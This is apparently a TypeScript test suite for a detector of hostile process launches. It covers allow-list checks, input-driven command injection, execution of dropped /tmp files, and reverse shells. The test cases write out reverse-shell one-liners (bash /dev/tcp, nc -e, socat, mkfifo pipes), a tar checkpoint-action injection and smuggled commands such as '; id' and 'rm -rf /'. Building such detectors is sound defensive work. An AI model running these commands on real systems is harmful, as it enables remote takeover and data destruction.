import fc from 'fast-check';
import type { InputString } from '../input/extract';
import { detectExec, matchesExecAllow, simpleCommands } from './exec';
import type { Roots } from './types';

const roots: Roots = { taskRoot: '/var/task', runtimeDir: '/var/runtime', layerRoot: '/opt', tmpDirs: ['/tmp'] };
const I = (...values: string[]): InputString[] => values.map((value, i) => ({ path: `$.q.v${i}`, value }));
const none = new Set<string>();
const kinds = (vs: ReturnType<typeof detectExec>) => vs.map((v) => `${v.category}/${v.kind}`).sort();

describe('exec allow-list', () => {
  test('basenames, absolute paths and *', () => {
    expect(matchesExecAllow('/usr/bin/convert', ['convert'], '/var/task')).toBe(true);
    expect(matchesExecAllow('convert', ['convert'], '/var/task')).toBe(true);
    expect(matchesExecAllow('/tmp/convert', ['/usr/bin/convert'], '/var/task')).toBe(false);
    expect(matchesExecAllow('/usr/bin/../bin/convert', ['/usr/bin/convert'], '/var/task')).toBe(true);
    expect(matchesExecAllow('./bin/tool', ['/var/task/bin/tool'], '/var/task')).toBe(true);
    expect(matchesExecAllow('anything', ['*'], '/var/task')).toBe(true);
    expect(matchesExecAllow('ls', [], '/var/task')).toBe(false);
  });

  test('a process outside the list is an exec_policy verdict; inside it is silent', () => {
    expect(kinds(detectExec('/usr/bin/git', ['status'], [], [], none, roots))).toEqual(['exec_policy/not_allowed']);
    expect(detectExec('/usr/bin/git', ['status'], [], ['git'], none, roots)).toEqual([]);
  });
});

describe('input-correlated', () => {
  test('the program comes from input', () => {
    const v = detectExec('/usr/bin/whoami', [], I('whoami'), ['*'], none, roots);
    expect(kinds(v)).toEqual(['command_injection/command_name']);
    expect(v[0].severity).toBe('high');
    expect(kinds(detectExec('/bin/id', [], I('/bin/id'), ['*'], none, roots))).toEqual([
      'command_injection/command_name',
    ]);
  });

  test('an option word comes from input', () => {
    expect(
      kinds(
        detectExec(
          'tar',
          ['-cf', 'x.tar', '--checkpoint-action=exec=sh'],
          I('--checkpoint-action=exec=sh'),
          ['tar'],
          none,
          roots,
        ),
      ),
    ).toEqual(['command_injection/argument_injection']);
  });

  test('sh -c and node -e scripts are judged as shell and code', () => {
    expect(kinds(detectExec('/bin/sh', ['-c', 'convert a.png; id'], I('a.png; id'), ['*'], none, roots))).toEqual([
      'command_injection/shell_metachar',
    ]);
    expect(
      kinds(detectExec('node', ['-e', 'console.log(1); process.exit(2)'], I('1); process.exit(2'), ['*'], none, roots)),
    ).toEqual(['code_injection/js_syntax']);
  });

  test('negative: data arguments, 1-char inputs, inputs that are only part of the program name', () => {
    expect(
      detectExec('/usr/bin/convert', ['in; rm -rf /.png', 'out.png'], I('in; rm -rf /.png'), ['convert'], none, roots),
    ).toEqual([]);
    expect(detectExec('/usr/bin/convert', ['-x'], I('x'), ['convert'], none, roots)).toEqual([]);
    expect(detectExec('/usr/bin/convert', [], I('conv', 'a'), ['convert'], none, roots)).toEqual([]);
    expect(detectExec('/bin/sh', ['-c', "convert 'a;b.png' out.png"], I('a;b.png'), ['sh'], none, roots)).toEqual([]);
  });
});

describe('droppers and reverse shells', () => {
  test('a file written to /tmp is executed directly or through an interpreter', () => {
    const dropped = new Set(['/tmp/x/miner']);
    expect(kinds(detectExec('/tmp/x/miner', [], [], ['*'], dropped, roots))).toEqual(['dropper/dropped_file_exec']);
    expect(kinds(detectExec('/tmp/x/../x/miner', [], [], ['*'], dropped, roots))).toEqual([
      'dropper/dropped_file_exec',
    ]);
    expect(kinds(detectExec('node', ['/tmp/x/miner'], [], ['*'], dropped, roots))).toEqual([
      'dropper/dropped_file_exec',
    ]);
    expect(kinds(detectExec('/tmp/other', [], [], ['*'], dropped, roots))).toEqual(['dropper/exec_from_tmp']);
    expect(detectExec('/usr/bin/env', ['node', 'x.js'], [], ['*'], dropped, roots)).toEqual([]);
  });

  test('the function code itself is not "from /tmp" when the task root lives under /tmp (a checkout there)', () => {
    const inTmp: Roots = { ...roots, taskRoot: '/tmp/checkout/fn', layerRoot: '/tmp/checkout/layer' };
    expect(detectExec('/tmp/checkout/fn/bin/resize', [], [], ['*'], new Set(), inTmp)).toEqual([]);
    expect(detectExec('/tmp/checkout/layer/bin/tool', [], [], ['*'], new Set(), inTmp)).toEqual([]);
    expect(kinds(detectExec('/tmp/checkout/other', [], [], ['*'], new Set(), inTmp))).toEqual([
      'dropper/exec_from_tmp',
    ]);
    const noRoots: Roots = { ...roots, taskRoot: '', layerRoot: '/' };
    expect(kinds(detectExec('/tmp/other', [], [], ['*'], new Set(), noRoots))).toEqual(['dropper/exec_from_tmp']);
  });

  test('a /tmp program declared by its absolute path is not a dropper; its basename or * does not excuse it', () => {
    const dropped = new Set(['/tmp/chromium/headless_shell']);
    expect(
      detectExec('/tmp/chromium/headless_shell', ['--x'], [], ['/tmp/chromium/headless_shell'], dropped, roots),
    ).toEqual([]);
    expect(
      detectExec('/tmp/chromium/../chromium/headless_shell', [], [], ['/tmp/chromium/headless_shell'], dropped, roots),
    ).toEqual([]);
    expect(kinds(detectExec('/tmp/chromium/headless_shell', [], [], ['headless_shell'], dropped, roots))).toEqual([
      'dropper/dropped_file_exec',
    ]);
    expect(
      kinds(detectExec('/tmp/chromium/other', [], [], ['/tmp/chromium/headless_shell', '*'], dropped, roots)),
    ).toEqual(['dropper/exec_from_tmp']);
  });

  test.each([
    ['/bin/bash', ['-i']],
    ['/bin/sh', ['-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']],
    ['/bin/sh', ['-c', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f']],
    ['nc', ['-e', '/bin/sh', '10.0.0.1', '4444']],
    ['ncat', ['10.0.0.1', '4444', '--sh-exec', 'sh']],
    ['socat', ['tcp:10.0.0.1:4444', 'EXEC:/bin/sh']],
    ['/bin/sh', ['-c', 'nc -e /bin/sh 10.0.0.1 4444']],
  ])('%s %j is a reverse-shell shape', (file, args) => {
    const v = detectExec(file, args as string[], [], ['*'], none, roots);
    expect(kinds(v)).toContain('command_injection/reverse_shell');
    expect(v.find((x) => x.kind === 'reverse_shell')!.severity).toBe('critical');
  });

  test('ordinary shells and netcat checks are not reverse shells', () => {
    expect(detectExec('/bin/sh', ['-c', 'ls -la /tmp'], [], ['*'], none, roots)).toEqual([]);
    expect(detectExec('/bin/bash', ['script.sh'], [], ['*'], none, roots)).toEqual([]);
    expect(detectExec('nc', ['-z', 'db', '5432'], [], ['*'], none, roots)).toEqual([]);
  });

  test('simpleCommands splits pipelines and keeps redirections out of the command name', () => {
    expect(simpleCommands("a 'b c' | d -e 2>&1; f")).toEqual([['a', 'b c'], ['d', '-e', '2', '>', '&', '1'], ['f']]);
  });
});

test('property: random argv never throws and an absent input never correlates', () => {
  fc.assert(
    fc.property(
      fc.string({ maxLength: 30 }),
      fc.array(fc.string({ maxLength: 30 }), { maxLength: 6 }),
      fc.string({ minLength: 2, maxLength: 10 }),
      (file, args, value) => {
        const vs = detectExec(file, args, [{ path: '$.x', value }], ['*'], none, roots);
        const present = file.includes(value) || args.some((a) => a.includes(value));
        if (!present) expect(vs.filter((v) => v.input)).toEqual([]);
      },
    ),
    { numRuns: 1000 },
  );
});
